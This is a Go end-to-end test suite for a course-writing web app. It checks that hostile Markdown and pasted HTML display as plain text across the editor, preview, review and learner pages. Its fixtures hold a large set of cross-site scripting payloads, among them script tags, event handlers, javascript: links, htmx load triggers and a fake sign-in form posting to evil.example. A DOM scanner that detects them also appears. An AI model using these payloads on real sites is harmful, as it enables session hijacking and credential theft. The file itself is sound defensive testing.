package e2e

import (
	"encoding/json"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"alongside/e2e/browser"
	"alongside/e2e/product"
)

// hostile is what somebody might write, or paste from elsewhere, to have a page run it,
// ask for it, send something or look otherwise. Whatever it asks for is called stolen.
const hostile = `

## Hostile <script>window.stolen = 1</script> {#hostile}

### A heading {#heading onmouseover="alert(2)" style="position:fixed" data-hx-get="/courses?asked" hx-trigger="load"}

Before <script>window.stolen = 3; fetch("/courses?stolen")</script> it.

<script src="https://evil.example/stolen.js"></script>

<img src="x-stolen" onerror="window.stolen = 4"> <img src="https://evil.example/stolen.png">

![a pixel](https://evil.example/stolen.png) ![another](//evil.example/stolen.png "title") ![](data:image/svg+xml,<svg onload="window.stolen=5"/>)

<svg onload="window.stolen = 6"><script>window.stolen = 7</script><a xlink:href="javascript:window.stolen=8">s</a></svg>

<iframe src="https://evil.example/stolen" srcdoc="<script>parent.stolen = 9</script>"></iframe>

<style>body { background: url(https://evil.example/stolen.css); display: none }</style>

<link rel="stylesheet" href="https://evil.example/stolen.css"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/stolen">

<form action="https://evil.example/stolen" method="post"><input name="password" autofocus onfocus="window.stolen = 10"><button>Sign in again</button></form>

<div data-hx-get="/courses?stolen" data-hx-trigger="load" hx-get="/courses?stolen" hx-trigger="load" data-hx-on:click="window.stolen = 11">htmx</div>

<!-- stolen <script>window.stolen = 12</script> -->

[a link](javascript:window.stolen=13) [another](  JaVaScRiPt:window.stolen=14) [data](data:text/html,<script>window.stolen=15</script>) [vb](vbscript:stolen) <javascript:window.stolen=16> [ref][r]

[r]: javascript:window.stolen=17

<a href="javascript:window.stolen=18" onclick="window.stolen=19" style="position:fixed;inset:0">over everything</a>

:::question[What <img src=x onerror="window.stolen=20"> is it?]{#steals onclick="window.stolen=21" data-hx-get="/courses?stolen" hx-trigger="load"}
- [x] <script>window.stolen = 22</script> This
  > <b onmouseover="window.stolen = 23">Yes</b>, [it](javascript:window.stolen=24) is.
- [ ] That
:::

After the storm.
`

// harmful finds what of it has become more than words, in the page and in its frames. A
// picture of elsewhere is a link to it, which somebody may press.
const harmful = `(() => { const found = [];
	const look = (page) => {
		if (page.defaultView.stolen) found.push("a script ran: " + page.defaultView.stolen);
		for (const e of (page.querySelector("main") ?? page.body).querySelectorAll("*")) {
			if (e.matches("style, base, meta, object, embed, script:not([src^='/assets/']), svg script, main link:not([href^='/assets/']), iframe:not([data-preview])")) found.push(e.outerHTML.slice(0, 150));
			for (const { name, value } of e.attributes) {
				if (/^on|^style$|^srcdoc$|^(data-)?hx-on/.test(name) || /^\s*(javascript|data|vbscript):/i.test(value) && /href|src|action/.test(name) || /evil|stolen/.test(value) && !/^(alt|value|title)$/.test(name) && !(name === "href" && e.rel === "noopener noreferrer")) found.push(name + "=" + value + " in " + e.outerHTML.slice(0, 150));
			}
			if (e.matches("iframe") && e.contentDocument) look(e.contentDocument);
		}
	};
	look(document);
	return found; })()`

func TestHostileMarkdownIsNothingButWordsWhereverItIsShown(t *testing.T) {
	t.Parallel()
	p := startDemo(t)
	learner := open(t, p, browser.Options{})
	signIn(learner, person(t, p, "learner", 0))
	learner.Visit("/courses/walking-alongside")
	learner.Press("Start this course")

	writer := toWrite(t, p, 0, browser.Options{})
	writer.WriteOver("The text", "- **Sitting 1. Beside you.** A story, and a look at who helped you.", "<!-- stolen -->"+hostile)
	writer.Press("Save")
	writer.SeeLike(savedAt)
	harmless(t, writer, "the editor")
	writer.Touch("See it here, as a learner on a phone")
	writer.Await(`document.querySelector("iframe[data-preview]").contentDocument?.querySelector("h1")`)
	writer.Await(`(() => { const page = document.querySelector("iframe[data-preview]").contentDocument; if (page?.body?.innerText.includes("After the storm.")) return true;
		[...(page?.querySelectorAll("main a") ?? [])].find(a => a.innerText.includes("Hostile"))?.click(); return false; })()`)
	harmless(t, writer, "the frame beside the editor")
	writer.Visit(editor1 + "/preview/hostile")
	writer.See("After the storm.")
	harmless(t, writer, "the preview")
	writer.Visit(editor1 + "/history")
	harmless(t, writer, "the history")
	writer.Visit(editor1 + "/history/2")
	writer.See("After the storm.", `<script>window.stolen = 3;`)
	harmless(t, writer, "an earlier text")

	writer.Visit(editor1 + "/next")
	writer.Fill("What should they know?", `<script>window.stolen = 25</script><img src=x onerror="window.stolen=26">`)
	writer.Press("Ask others to read it")
	reader := open(t, p, browser.Options{Width: 1280, Height: 900})
	signIn(reader, person(t, p, "mentor", 1))
	reader.Visit(review1)
	reader.See("After the storm.", "<script>window.stolen = 25</script>")
	harmless(t, reader, "the review")
	storm := reader.Within("After the storm.")
	storm.Touch("Say something about this part")
	storm.Fill("Or write it as you would say it", `After <img src=x onerror="window.stolen=27"> [the storm](javascript:window.stolen=28).`)
	storm.Press("Suggest this text")
	reader.See("a suggestion")
	harmless(t, reader, "a suggestion")
	reader.Visit(review1 + "/hostile")
	reader.See("After the storm.")
	harmless(t, reader, "a page of the review")

	goLive(t, p, writer)
	learner.Visit(module1 + "/hostile")
	learner.See("After the storm.")
	harmless(t, learner, "the learner's page")
	learner.Choose("This")
	learner.Press("Check")
	learner.See("Yes")
	harmless(t, learner, "the learner's answer")
}

// harmless fails where something on a page is more than words, or asked for something.
func harmless(t *testing.T, page *browser.Page, where string) {
	t.Helper()
	var found []string
	must(t, json.Unmarshal([]byte(page.Ask(harmful)), &found))
	for _, one := range found {
		t.Errorf("on %s: %s", where, one)
	}
	for _, address := range page.Asked() {
		if strings.Contains(address, "stolen") || strings.Contains(address, "?asked") {
			t.Errorf("%s asked for %s", where, address)
		}
	}
}

// goLive lets the two who may sign a text off, and its writer make it live.
func goLive(t *testing.T, p *product.Product, writer *browser.Page) {
	t.Helper()
	for kind, who := range map[string]product.Person{"lived": person(t, p, "mentor", 1), "safe": person(t, p, "facilitator", 0)} {
		client, err := p.SignIn(who)
		must(t, err)
		page, err := client.Get(review1)
		must(t, err)
		version := regexp.MustCompile(`name="version" value="(\w+)"`).FindSubmatch(page)
		if version == nil {
			t.Fatalf("%s cannot sign off", who.Username)
		}
		must(t, client.Post(review1+"/verdict", url.Values{"version": {string(version[1])}, "kind": {kind}}))
	}
	writer.Visit(editor1 + "/next")
	writer.Press("Make it live now")
	writer.See("It is live")
}

// What word processors and pages put on the clipboard, with what somebody hid in it.
const (
	pastedPage = `<meta http-equiv="refresh" content="0;url=https://evil.example/stolen"><style>body{display:none}</style>
		<h2 onclick="window.stolen=30">A pasted heading</h2><p style="position:fixed">One <b onmouseover="window.stolen=31">strong</b> word<script>window.stolen=32</script>.</p>
		<p><a href="javascript:window.stolen=33">a link</a> <img src="https://evil.example/stolen.png" onerror="window.stolen=34"></p>
		<iframe src="https://evil.example/stolen"></iframe><svg onload="window.stolen=35"><text>s</text></svg><form action="https://evil.example/stolen"><input value="x"></form>
		<ul><li data-hx-get="/courses?stolen" hx-trigger="load">first</li><li>second</li></ul><!-- stolen -->`
	pastedWord = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>@font-face{src:url(https://evil.example/stolen.ttf)}</style><!--[if gte mso 9]><xml><o:stolen/></xml><![endif]--></head>
		<body><p class=MsoNormal><b>Strong<o:p></o:p></b> in an office</p><p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;</span></span><![endif]>third</p></body></html>`
	pastedGoogle = `<b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr"><span style="font-weight:700">Bold</span><span style="font-style:italic" onclick="window.stolen=36"> leaning</span></p></b>`
)

func TestWhatIsPastedComesAsMarkdownAndBringsNothingElse(t *testing.T) {
	t.Parallel()
	p := startDemo(t)
	writer := toWrite(t, p, 0, browser.Options{})
	for _, c := range []struct {
		from, html, last string
		comes            []string
	}{
		{"a page", pastedPage, "second", []string{"# A pasted heading", "**strong**", "- first", "- second"}},
		{"an office", pastedWord, "third", []string{"**Strong**", "in an office", "third"}},
		{"a document on the web", pastedGoogle, "leaning", []string{"**Bold**", "*leaning*"}},
	} {
		writer.WriteOver("The text", writer.Value("The text"), "---\ntitle: Pasted\n---\n\n## A page\n\nHere:\n\n")
		html, _ := json.Marshal(c.html)
		writer.Ask(`(() => { const clipboard = new DataTransfer(); clipboard.setData("text/html", ` + string(html) + `); clipboard.setData("text/plain", "plain words");
			document.activeElement.dispatchEvent(new ClipboardEvent("paste", { clipboardData: clipboard, bubbles: true, cancelable: true })); return true; })()`)
		if !writer.Until(func() bool { return strings.Contains(writer.Value("The text"), c.last) }) {
			t.Fatalf("from %s comes %q", c.from, writer.Value("The text"))
		}
		text := writer.Value("The text")
		holds(t, text, c.comes...)
		if strings.Contains(text, "stolen") || strings.Contains(text, "<") || strings.Contains(text, "javascript") {
			t.Errorf("from %s comes %q", c.from, text)
		}
		harmless(t, writer, "the editor")
	}
}
